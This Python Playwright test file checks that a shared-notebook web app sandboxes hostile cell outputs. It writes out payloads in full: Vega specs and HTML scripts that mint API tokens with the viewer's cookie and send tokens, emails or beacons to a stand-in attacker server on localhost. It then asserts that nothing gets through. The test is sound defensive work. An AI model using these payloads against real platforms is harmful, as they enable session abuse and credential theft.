"""Outputs are written by whoever can edit a notebook and drawn in everyone else's browser.
A notebook whose outputs try every trick we know to act as the person who opens it (a Vega
loader chosen by the spec that POSTs to the API with their cookie, data URLs that read the
API, a loader base URL, image marks and links to another origin, HTML headers and an editor
URL in the chart's actions, an HTML output that fetches and navigates) is opened by someone
else: no API token is made for them, their browser sends nothing to the "attacker" (a second
HTTP server on 127.0.0.1) and nothing in an output frame reaches the API."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import anyio
import httpx
import pytest
from playwright.async_api import FrameLocator, Page, Request, expect

from tests.web.conftest import WebWeft, artifact
from tests.web.ui import cell

pytestmark = [pytest.mark.anyio, pytest.mark.browser]

VICTIM = ("Vic Victim", "#30a46c")
VEGA_LITE = "application/vnd.vegalite.v5+json"
VEGA = "application/vnd.vega.v5+json"
SCHEMA = "https://vega.github.io/schema/vega-lite/v5.json"
# A 1x1 transparent PNG: what the attacker answers, so nothing fails for lack of an image.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63000100000500010d0a2db40000000049454e44ae426082"
)


@dataclass
class Attacker:
    """Another origin: an HTTP server that records every request it gets."""

    url: str
    requests: list[str] = field(default_factory=list)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            seen.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(PIXEL)))
            self.end_headers()
            self.wfile.write(PIXEL)

        do_GET = do_POST = do_PUT = _answer

        def do_OPTIONS(self) -> None:
            seen.append(f"OPTIONS {self.path}")
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Methods", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Attacker(f"http://127.0.0.1:{server.server_address[1]}", seen)
    finally:
        server.shutdown()
        server.server_close()


def display(mime: str, spec: dict[str, Any] | str) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {mime: spec}, "metadata": {}}


def outputs_cell(*outputs: dict[str, Any]) -> dict[str, Any]:
    return {"source": "# outputs", "outputs": list(outputs)}


def hostile_cells(evil: str) -> list[dict[str, Any]]:
    """c0 an honest chart; c1..c8 each one trick."""
    image = {"type": "image", "width": 20, "height": 20}
    return [
        # c0: an honest chart, drawn as before.
        outputs_cell(
            display(
                VEGA_LITE,
                {
                    "$schema": SCHEMA,
                    "data": {"values": [{"k": "a", "v": 3}, {"k": "b", "v": 5}]},
                    "mark": "bar",
                    "encoding": {
                        "x": {"field": "k", "type": "nominal"},
                        "y": {"field": "v", "type": "quantitative"},
                    },
                },
            )
        ),
        # c1: the spec picks a loader that POSTs; the data URL is the token route, and the
        # new token goes to the attacker through an image mark.
        outputs_cell(
            display(
                VEGA_LITE,
                {
                    "$schema": SCHEMA,
                    "usermeta": {
                        "embedOptions": {
                            "loader": {
                                "http": {
                                    "method": "POST",
                                    "headers": {"Content-Type": "application/json"},
                                    "body": json.dumps({"label": "stolen"}),
                                }
                            }
                        }
                    },
                    "data": {"url": "/api/auth/tokens", "format": {"type": "json"}},
                    "transform": [{"calculate": f"'{evil}/token?t=' + datum.token", "as": "u"}],
                    "mark": image,
                    "encoding": {"url": {"field": "u", "type": "nominal"}},
                },
            )
        ),
        # c2: a plain data URL reads an API route as the viewer; an image mark sends it on.
        outputs_cell(
            display(
                VEGA_LITE,
                {
                    "$schema": SCHEMA,
                    "data": {"url": "/api/auth/me", "format": {"type": "json", "property": "user"}},
                    "transform": [{"calculate": f"'{evil}/me?e=' + datum.email", "as": "u"}],
                    "mark": image,
                    "encoding": {"url": {"field": "u", "type": "nominal"}},
                },
            )
        ),
        # c3: an image mark on another origin (tells it who opened the notebook, and when).
        outputs_cell(
            display(
                VEGA_LITE,
                {
                    "$schema": SCHEMA,
                    "data": {"values": [{}]},
                    "mark": image,
                    "encoding": {"url": {"value": f"{evil}/image.png"}},
                },
            )
        ),
        # c4: a mark whose href navigates (the test clicks it).
        outputs_cell(
            display(
                VEGA_LITE,
                {
                    "$schema": SCHEMA,
                    "width": 240,
                    "height": 120,
                    "data": {"values": [{}]},
                    "mark": "rect",
                    "encoding": {
                        "x": {"value": 0},
                        "x2": {"value": 240},
                        "y": {"value": 0},
                        "y2": {"value": 120},
                        "href": {"value": f"{evil}/href"},
                    },
                },
            )
        ),
        # c5: actions turned back on, with HTML in the source view's header and the editor
        # pointed at the attacker (the test clicks them if they are there).
        outputs_cell(
            display(
                VEGA_LITE,
                {
                    "$schema": SCHEMA,
                    "usermeta": {
                        "embedOptions": {
                            "actions": True,
                            "sourceHeader": f"<img src='{evil}/source-header'>",
                            "sourceFooter": f"<script>fetch('{evil}/source-footer')</script>",
                            "editorUrl": f"{evil}/editor",
                        }
                    },
                    "data": {"values": [{"k": "a", "v": 1}]},
                    "mark": "point",
                    "encoding": {"x": {"field": "k", "type": "nominal"}},
                },
            )
        ),
        # c6: a Vega spec whose loader base URL is the attacker's, and a GET to the API.
        outputs_cell(
            display(
                VEGA,
                {
                    "$schema": "https://vega.github.io/schema/vega/v5.json",
                    "usermeta": {"embedOptions": {"loader": {"baseURL": f"{evil}/base/"}}},
                    "width": 100,
                    "height": 50,
                    "data": [
                        {"name": "relative", "url": "data.json"},
                        {
                            "name": "api",
                            "url": "/api/auth/tokens",
                            "format": {"property": "tokens"},
                        },
                    ],
                    "marks": [
                        {
                            "type": "image",
                            "encode": {
                                "enter": {
                                    "url": {"signal": f"'{evil}/signal?n=' + length(data('api'))"},
                                    "width": {"value": 10},
                                    "height": {"value": 10},
                                }
                            },
                        }
                    ],
                },
            )
        ),
        # c7: HTML whose script POSTs to the API, fetches and loads images.
        outputs_cell(
            display(
                "text/html",
                f"""<p>html output</p><img src="{evil}/html-img">
<link rel="stylesheet" href="{evil}/html-css">
<script>
fetch('/api/auth/tokens', {{method: 'POST', credentials: 'include',
  headers: {{'Content-Type': 'application/json'}}, body: '{{"label": "html"}}'}}).catch(() => {{}})
fetch('{evil}/html-fetch').catch(() => {{}})
new Image().src = '{evil}/html-script-img'
document.body.append('script ran')
</script>""",
            )
        ),
        # c8: HTML that takes its frame to another origin (the page's frame-src refuses).
        outputs_cell(
            display("text/html", f"<script>location.href = '{evil}/html-navigate'</script>")
        ),
    ]


def chart(page: Page, cell_id: str) -> FrameLocator:
    """Where a cell's chart is drawn: inside its output frame."""
    return cell(page, cell_id).frame_locator("iframe.output-vega")


async def click_actions(scope: FrameLocator) -> None:
    """Open the chart's actions menu and click everything but the exports, if it has any."""
    summary = scope.locator(".vega-embed summary")
    if await summary.count():
        await summary.first.click()
    for name in ("View Source", "View Compiled Vega", "Open in Vega Editor"):
        link = scope.locator(".vega-actions a", has_text=name)
        if await link.count():
            await link.first.click(force=True)


async def test_hostile_outputs_send_nothing_as_the_person_who_opens_them(
    web: WebWeft, attacker: Attacker
) -> None:
    evil = attacker.url
    workspace = await web.workspace("Shared")
    notebook = await web.notebook(hostile_cells(evil), title="Quarterly", workspace_id=workspace)

    context = await web.person(*VICTIM)
    # Requests the browser sent and got an answer to: method, url, asked by an output frame.
    sent: list[tuple[str, str, bool]] = []
    refused: list[str] = []  # requests the browser refused to send (the policy)

    def on_finished(request: Request) -> None:
        try:
            in_frame = request.frame.parent_frame is not None
        except Exception:  # a request without a frame (a service worker's)
            in_frame = True
        sent.append((request.method, request.url, in_frame))

    context.on("requestfinished", on_finished)
    context.on("requestfailed", lambda request: refused.append(request.url))
    page = await web.open_notebook(context, notebook)
    app = page.url

    # The honest chart is drawn, in its frame.
    await expect(chart(page, "c0").locator("svg.marks")).to_be_visible()
    await expect(chart(page, "c0").locator(".mark-rect path")).to_have_count(2)

    # Click the link mark and every action the charts offer.
    await expect(chart(page, "c4").locator("svg.marks")).to_be_visible()
    await chart(page, "c4").locator(".mark-rect path").first.click()
    for cell_id in ("c0", "c5"):
        await click_actions(chart(page, cell_id))
    await anyio.sleep(2)  # what was set off has had time to arrive

    assert attacker.requests == []
    assert not [url for _, url, _ in sent if url.startswith(evil)], sent
    # Nothing drawn from the document reached the API, with a cookie or without.
    origin = web.url
    assert not [r for r in sent if r[0] == "POST" and "/api/auth/tokens" in r[1]], sent
    # Output frames only ever load the frame page and the client's assets.
    from_frames = [url for _, url, in_frame in sent if in_frame]
    allowed = (f"{origin}/frame.html", f"{origin}/assets/", "data:", "blob:")
    assert [url for url in from_frames if not url.startswith(allowed)] == [], from_frames
    # The page never left the notebook, and no window was opened.
    assert page.url == app
    assert context.pages == [page]

    victim = web.accounts[VICTIM[0]]
    async with httpx.AsyncClient(base_url=origin, timeout=30) as api:
        tokens = await api.get(
            "/api/auth/tokens", headers={"Authorization": f"Bearer {victim.token}"}
        )
    assert tokens.status_code == 200, tokens.text
    assert tokens.json()["tokens"] == []

    # Exporting a chart still works (a download from its sandboxed frame).
    save = chart(page, "c0").locator(".vega-actions a", has_text="Save as SVG")
    async with page.expect_download() as download:
        await save.click()
    saved = await download.value
    assert saved.suggested_filename == "visualization.svg"
    assert "<svg" in await anyio.Path(await saved.path()).read_text()

    # The charts were drawn without the spec's options: no source or editor actions.
    await expect(chart(page, "c5").locator("svg.marks")).to_be_visible()
    await expect(
        chart(page, "c5").locator(".vega-actions a", has_text="View Source")
    ).to_have_count(0)
    await expect(
        chart(page, "c5").locator(".vega-actions a", has_text="Open in Vega Editor")
    ).to_have_count(0)
    # The HTML output's script ran (sandboxed).
    html = cell(page, "c7").frame_locator("iframe.output-html")
    await expect(html.locator("body")).to_contain_text("script ran")
    await expect(html.locator("p")).to_have_text("html output")
    await cell(page, "c0").scroll_into_view_if_needed()
    await page.screenshot(path=artifact("hostile-outputs.png"))
    # The HTML output's own loads were tried, and the frame's policy refused them (Chromium
    # says so in the console: those violations are this test's, not the client's fault).
    assert {f"{evil}/html-img", f"{evil}/html-script-img"} <= set(refused), refused
    ours = [v for v in web.csp_violations if evil not in v and "/api/auth/tokens" not in v]
    assert ours == [], ours
    web.csp_violations.clear()
